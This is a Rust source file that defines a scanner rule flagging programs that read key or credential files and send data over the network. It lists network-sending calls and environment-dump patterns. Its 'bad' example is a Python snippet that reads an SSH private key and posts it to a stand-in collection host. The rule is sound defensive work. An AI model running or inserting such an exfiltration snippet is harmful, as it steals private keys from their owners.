//! `exfil.program`

use super::super::shell::known::Language;
use super::super::shell::secrets;
use super::super::shell::tree::Span;
use super::super::shell::value::Origin;
use super::super::unit::{Kind, Unit};
use super::{Look, Rule, Weight, argv, exfil_webhook_host};
use crate::model::finding::Tier;

pub(super) static RULE: Rule = Rule {
    id: "exfil.program",
    title: "a program names a file of keys and sends something",
    weight: Weight::of_commands(Tier::Confirm, Tier::Warn, None),
    owasp: &["AST01"],
    what: "A program in Python, JavaScript or another language names a private key, the credentials of a cloud, a keychain or the store of a browser, and sends something over the network; or it names `.env` or takes the whole environment, and a place where anybody can collect what is sent.",
    why: "Both together are what a thief of keys looks like.",
    instead: "Let the program that the secret belongs to use it.",
    limits: "Whether what is read is what is sent is not followed. Paths that are put together are not seen.",
    bad: "```python\nimport requests\nkey = open('/root/.ssh/id_rsa').read()\nrequests.post('https://collect.example.com', data=key)\n```\n",
    alike: "```python\nimport requests\nkey = open('.env').read()\nrequests.post('https://api.example.com', data={'a': 1})\n```\n",
    look: Look::Text(found),
};

/// What sends, in the languages that are looked at.
const SENDS: &[&str] = &[
    "requests.post",
    "requests.put",
    "requests.request",
    "httpx.post",
    "urlopen(",
    "aiohttp",
    "http.client",
    "session.post",
    "axios.post",
    "axios(",
    "fetch(",
    "http.request",
    "https.request",
    "sendBeacon",
    "XMLHttpRequest",
    "Net::HTTP",
    "LWP::",
    "curl_exec",
    "socket.socket",
    "net.connect",
    "smtplib",
    "Invoke-RestMethod",
    "Invoke-WebRequest",
    "UploadString",
    "UploadFile",
];
/// The whole environment.
const ENVIRONMENT: &[&str] =
    &["dict(os.environ)", "JSON.stringify(process.env)", "os.environ.items()", "Object.entries(process.env)"];

fn found(unit: &Unit) -> Vec<(Span, String)> {
    if !matches!(unit.kind, Kind::Code(language) if language != Language::Shell) {
        return Vec::new();
    }
    let text = unit.text.as_str();
    let Some(sends) = SENDS.iter().find(|word| text.contains(**word)) else { return Vec::new() };
    let collects = exfil_webhook_host::names_one(text);
    let mut at = 0;
    for piece in text.split(['"', '\'', '`', '\n']) {
        let span = Span { start: at, end: at + piece.len() };
        at += piece.len() + 1;
        let counts = match secrets::kind(piece).filter(|_| piece.len() > 3) {
            Some(Origin::Secret) => !piece.ends_with("history"),
            Some(_) => collects,
            None => collects && ENVIRONMENT.iter().any(|word| piece.contains(word)),
        };
        if counts {
            let message =
                format!("a program that names `{}` sends something by `{sends}`", argv::shown(piece.trim()));
            return vec![(span, message)];
        }
    }
    Vec::new()
}
